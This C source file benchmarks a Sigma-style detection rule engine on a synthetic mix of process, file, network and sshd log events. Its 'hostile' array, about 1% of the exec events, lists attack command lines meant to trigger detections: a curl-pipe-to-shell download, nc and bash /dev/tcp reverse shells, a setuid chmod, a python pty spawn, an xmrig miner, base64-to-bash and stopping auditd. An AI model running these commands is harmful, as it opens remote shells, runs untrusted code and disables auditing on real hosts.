/* Benchmark: events per second per core through sigma_match() (docs/sigma.md, "Speed").
 *
 * Builds a pool of events from a realistic mix (process execs most, then file changes,
 * network connections and auth log lines, with about 1% hostile ones) and runs it through
 * (1) the shipped rules (rules/ or --shipped DIR; skipped when absent) and (2) 500 generated
 * rules (rules_gen.c), single-threaded, timing CPU with getrusage. Prints the rules loaded,
 * events evaluated, matches (so nothing is optimized away) and events/s per core.
 * Usage: bench_rules [--events N] [--rules N] [--shipped DIR] [--write FILE] [--top]
 * (--top: the ten rules matching most often, as a check of the mix). */
#include "detect/sigma.h"
#include "lib/buf.h"
#include "lib/str.h"
#include "rules_gen.h"

#include <sys/resource.h>

/* The warm pool fits in the caches, as an event does when the pipeline matches it right after
 * decoding; the cold pool does not (every event comes from memory). */
#define POOL 1024
#define COLD_POOL 16384

static bool show_top;

static uint64_t rnd(uint64_t *s)
{
	*s ^= *s << 13;
	*s ^= *s >> 7;
	*s ^= *s << 17;
	return *s;
}

#define PICK(a) ((a)[rnd(&seed) % ARRAY_SIZE(a)])

static const char *const progs[][2] = {
	{ "/usr/bin/ls", "ls -la /var/log" },
	{ "/usr/bin/grep", "grep -rn TODO /home/dev/src/project" },
	{ "/usr/bin/cat", "cat /proc/meminfo" },
	{ "/usr/bin/bash", "bash -c /usr/lib/update-notifier/update-motd-updates-available" },
	{ "/usr/bin/dash", "sh -c run-parts --report /etc/cron.hourly" },
	{ "/usr/bin/python3", "python3 /opt/app/manage.py runserver 0.0.0.0:8000" },
	{ "/usr/bin/git", "git status --porcelain" },
	{ "/usr/bin/make", "make -j2 all" },
	{ "/usr/bin/gcc", "gcc -O2 -c src/main.c -o build/main.o" },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 -quiet -Isrc src/util.c" },
	{ "/usr/bin/systemctl", "systemctl is-active --quiet nginx" },
	{ "/usr/bin/sed", "sed -e s/foo/bar/ /tmp/build.cfg" },
	{ "/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log" },
	{ "/usr/sbin/cron", "/usr/sbin/CRON -f" },
	{ "/usr/bin/sleep", "sleep 60" },
	{ "/usr/bin/date", "date +%s" },
	{ "/usr/bin/ps", "ps aux" },
	{ "/usr/bin/find", "find /var/cache/apt -name *.deb -mtime +7" },
	{ "/usr/bin/tar", "tar czf /var/backups/home.tgz /home/dev" },
	{ "/usr/bin/ssh", "ssh -o BatchMode=yes deploy@10.0.3.7 uptime" },
	{ "/usr/bin/node", "node /srv/web/server.js" },
	{ "/usr/bin/docker", "docker ps --format {{.Names}}" },
	{ "/usr/bin/curl", "curl -fsS https://api.internal.example/health" },
	{ "/usr/bin/apt-get", "apt-get -qq update" },
	{ "/usr/bin/dpkg", "dpkg --print-architecture" },
	{ "/usr/bin/vim", "vim /home/dev/notes.txt" },
	{ "/usr/bin/journalctl", "journalctl -u nginx --since -1h" },
	{ "/usr/bin/id", "id -u" },
	{ "/usr/bin/uname", "uname -r" },
	{ "/usr/bin/env", "env LANG=C.UTF-8 /usr/bin/locale" },
};

static const char *const hostile[][2] = {
	{ "/usr/bin/curl", "curl -s http://203.0.113.9/a.sh | sh" },
	{ "/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444" },
	{ "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" },
	{ "/usr/bin/chmod", "chmod 4755 /tmp/.x/sh" },
	{ "/usr/bin/python3", "python3 -c import pty;pty.spawn(\"/bin/sh\")" },
	{ "/tmp/.x/xmrig", "xmrig -o stratum+tcp://pool:3333 --donate-level 1" },
	{ "/usr/bin/base64", "base64 -d /tmp/p | bash" },
	{ "/usr/bin/systemctl", "systemctl stop auditd" },
};

static const char *const parents[][2] = {
	{ "/usr/bin/bash", "-bash" },
	{ "/usr/sbin/cron", "/usr/sbin/CRON -f" },
	{ "/usr/lib/systemd/systemd", "/sbin/init" },
	{ "/usr/bin/make", "make -j2 all" },
	{ "/usr/sbin/sshd", "sshd: dev@pts/0" },
	{ "/usr/bin/python3", "python3 /opt/app/manage.py runserver" },
	{ "/usr/sbin/nginx", "nginx: worker process" },
};

static const char *const files[] = {
	"/home/dev/src/project/main.c",
	"/home/dev/.cache/pip/http/a/b/c",
	"/var/lib/dpkg/status-new",
	"/var/log/nginx/access.log",
	"/tmp/tmp.Xa81kd",
	"/var/lib/apt/lists/partial/deb.debian.org_dists",
	"/home/dev/.bash_history",
	"/var/cache/man/index.db",
	"/etc/cron.d/backup",
	"/root/.ssh/authorized_keys",
	"/etc/systemd/system/web.service",
	"/var/spool/postfix/maildrop/A1B2",
};

static const char *const auth_lines[] = {
	"Accepted publickey for deploy from 10.0.3.7 port 50022 ssh2: ED25519 SHA256:abc",
	"pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
	"pam_unix(sshd:session): session closed for user deploy",
	"Received disconnect from 10.0.3.7 port 50022:11: disconnected by user",
	"Disconnected from user deploy 10.0.3.7 port 50022",
	"Failed password for invalid user admin from 198.51.100.23 port 41234 ssh2",
	"Connection closed by 10.0.3.9 port 39012 [preauth]",
};

static void make_event(struct host_event *ev, uint64_t seed)
{
	unsigned r = (unsigned)(rnd(&seed) % 100);

	if (r < 60) {
		bool bad = rnd(&seed) % 100 == 0;
		const char *const *p = bad ? PICK(hostile) : PICK(progs);
		const char *const *pp = PICK(parents);
		host_event_reset(ev, EVENT_PROCESS_EXEC, 1);
		host_event_set_str(ev, EF_IMAGE, p[0]);
		host_event_set_str(ev, EF_PROCESS_NAME, strrchr(p[0], '/') + 1);
		host_event_set_str(ev, EF_COMMAND_LINE, p[1]);
		host_event_set_str(ev, EF_PARENT_IMAGE, pp[0]);
		host_event_set_str(ev, EF_PARENT_COMMAND_LINE, pp[1]);
		host_event_set_str(ev, EF_CURRENT_DIRECTORY, rnd(&seed) % 2 ? "/home/dev" : "/");
		host_event_set_str(ev, EF_USER, rnd(&seed) % 3 ? "dev" : "root");
		host_event_set_int(ev, EF_PID, (int64_t)(rnd(&seed) % 4000000));
		host_event_set_int(ev, EF_PPID, (int64_t)(rnd(&seed) % 4000000));
		host_event_set_str(ev, EF_UID, "1000");
	} else if (r < 75) {
		static const enum event_kind fk[] = { EVENT_FILE_CREATE, EVENT_FILE_MODIFY,
						      EVENT_FILE_RENAME, EVENT_FILE_DELETE };
		const char *const *p = PICK(progs);
		host_event_reset(ev, PICK(fk), 1);
		host_event_set_str(ev, EF_TARGET_FILENAME, PICK(files));
		if (ev->kind == EVENT_FILE_RENAME)
			host_event_set_str(ev, EF_RENAMED_FILENAME, PICK(files));
		host_event_set_str(ev, EF_IMAGE, p[0]);
		host_event_set_str(ev, EF_COMMAND_LINE, p[1]);
		host_event_set_str(ev, EF_USER, "dev");
	} else if (r < 90) {
		static const char *const ports[] = { "443", "80", "53", "22", "5432", "8080" };
		const char *const *p = PICK(progs);
		char ip[32];
		host_event_reset(ev, rnd(&seed) % 4 ? EVENT_NET_CONNECT : EVENT_NET_ACCEPT, 1);
		snprintf(ip, sizeof(ip), "%u.%u.%u.%u", (unsigned)(rnd(&seed) % 223 + 1),
			 (unsigned)(rnd(&seed) % 256), (unsigned)(rnd(&seed) % 256),
			 (unsigned)(rnd(&seed) % 254 + 1));
		host_event_set_str(ev, EF_DST_IP, ip);
		host_event_set_str(ev, EF_DST_PORT, PICK(ports));
		host_event_set_str(ev, EF_SRC_IP, "10.0.3.4");
		host_event_set_int(ev, EF_SRC_PORT, (int64_t)(32768 + rnd(&seed) % 28000));
		host_event_set_str(ev, EF_PROTOCOL, "tcp");
		host_event_set_str(ev, EF_DIRECTION,
				   ev->kind == EVENT_NET_CONNECT ? "outbound" : "inbound");
		host_event_set_str(ev, EF_IMAGE, p[0]);
		host_event_set_str(ev, EF_COMMAND_LINE, p[1]);
	} else {
		host_event_reset(ev, EVENT_LOG_LINE, 1);
		host_event_set_str(ev, EF_SERVICE, "sshd");
		host_event_set_str(ev, EF_MESSAGE, PICK(auth_lines));
	}
	host_event_set_str(ev, EF_HOSTNAME, "web-01");
}

static double cpu_seconds(void)
{
	struct rusage ru;
	getrusage(RUSAGE_SELF, &ru);
	return (double)ru.ru_utime.tv_sec + (double)ru.ru_utime.tv_usec / 1e6 +
	       (double)ru.ru_stime.tv_sec + (double)ru.ru_stime.tv_usec / 1e6;
}

static void count_match(size_t rule, void *arg)
{
	size_t *per_rule = arg;
	per_rule[rule]++;
}

/* Prints the rules matching most often in one pass over the pool (a sanity check of the mix). */
static void top(struct sigma_ruleset *rs, struct host_event *pool)
{
	struct sigma_scratch *sc = sigma_scratch_new();
	size_t n = sigma_ruleset_count(rs), *per = xcalloc(n + 1, sizeof(size_t));

	for (size_t i = 0; i < POOL; i++)
		sigma_match(rs, &pool[i], sc, count_match, per);
	for (int k = 0; k < 10; k++) {
		size_t best = n;
		for (size_t i = 0; i < n; i++)
			if (per[i] && (best == n || per[i] > per[best]))
				best = i;
		if (best == n)
			break;
		printf("  %6zu of %u events: %s\n", per[best], POOL,
		       sigma_ruleset_rule(rs, best)->title);
		per[best] = 0;
	}
	free(per);
	sigma_scratch_free(sc);
}

static void run(const char *label, struct sigma_ruleset *rs, struct host_event *pool, size_t npool,
		size_t nevents)
{
	struct sigma_scratch *sc = sigma_scratch_new();
	size_t errs, matches = 0;
	double t0, t;

	sigma_ruleset_errors(rs, &errs);
	/* warm up: caches, lazily allocated scratch */
	for (size_t i = 0; i < npool; i++)
		matches += sigma_match(rs, &pool[i], sc, NULL, NULL);
	matches = 0;
	t0 = cpu_seconds();
	for (size_t i = 0; i < nevents; i++)
		matches += sigma_match(rs, &pool[i % npool], sc, NULL, NULL);
	t = cpu_seconds() - t0;
	printf("%-10s %5zu rules (%zu errors)  %zu events  %zu matches  %.2f s CPU  "
	       "%.0f events/s per core\n",
	       label, sigma_ruleset_count(rs), errs, nevents, matches, t,
	       t > 0 ? (double)nevents / t : 0.0);
	sigma_scratch_free(sc);
	if (show_top && npool == POOL)
		top(rs, pool);
}

int main(int argc, char **argv)
{
	int64_t nevents = 3000000, nrules = 500;
	const char *shipped = "rules", *write = NULL;
	struct host_event *pool = xcalloc(COLD_POOL, sizeof(*pool));
	struct sigma_ruleset *rs;
	struct buf b;

	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--events") && i + 1 < argc &&
		    parse_i64(argv[i + 1], 1, INT64_MAX, &nevents) == 0)
			i++;
		else if (!strcmp(argv[i], "--rules") && i + 1 < argc &&
			 parse_i64(argv[i + 1], 0, 100000, &nrules) == 0)
			i++;
		else if (!strcmp(argv[i], "--shipped") && i + 1 < argc)
			shipped = argv[++i];
		else if (!strcmp(argv[i], "--write") && i + 1 < argc)
			write = argv[++i];
		else if (!strcmp(argv[i], "--top"))
			show_top = true;
		else {
			fprintf(stderr, "usage: bench_rules [--events N] [--rules N] "
					"[--shipped DIR] [--write FILE] [--top]\n");
			return 2;
		}
	}
	for (size_t i = 0; i < COLD_POOL; i++) {
		host_event_init(&pool[i]);
		make_event(&pool[i], 0x9E3779B97F4A7C15ull * (i + 1));
	}
	printf("events: 60%% process exec, 15%% file, 15%% network, 10%% sshd lines; ~1%% of "
	       "execs hostile\nwarm: a pool of %u events (in cache); cold: %u events (from "
	       "memory)\n",
	       POOL, COLD_POOL);

	sigma_ruleset_new(&rs);
	if (sigma_ruleset_load(rs, shipped) == 0) {
		sigma_ruleset_compile(rs);
		run("shipped", rs, pool, POOL, (size_t)nevents);
	} else
		printf("shipped    skipped (no %s/)\n", shipped);
	sigma_ruleset_free(rs);

	buf_init(&b, 64u << 20);
	rules_gen(&b, (unsigned)nrules, 42);
	if (write) {
		FILE *f = fopen(write, "w");
		if (!f || fwrite(buf_str(&b), 1, buf_len(&b), f) != buf_len(&b)) {
			perror(write);
			return 1;
		}
		fclose(f);
	}
	sigma_ruleset_new(&rs);
	sigma_ruleset_load_text(rs, "generated", buf_str(&b), buf_len(&b));
	sigma_ruleset_compile(rs);
	{
		size_t n;
		const struct sigma_error *e = sigma_ruleset_errors(rs, &n);
		for (size_t i = 0; i < n && i < 5; i++)
			fprintf(stderr, "%s:%u: %s: %s\n", e[i].file, e[i].line,
				e[i].rule_id ? e[i].rule_id : "-", e[i].message);
	}
	run("generated", rs, pool, POOL, (size_t)nevents);
	run("gen-cold", rs, pool, COLD_POOL, (size_t)nevents);
	sigma_ruleset_free(rs);
	buf_free(&b);
	for (size_t i = 0; i < COLD_POOL; i++)
		host_event_free(&pool[i]);
	free(pool);
	return 0;
}
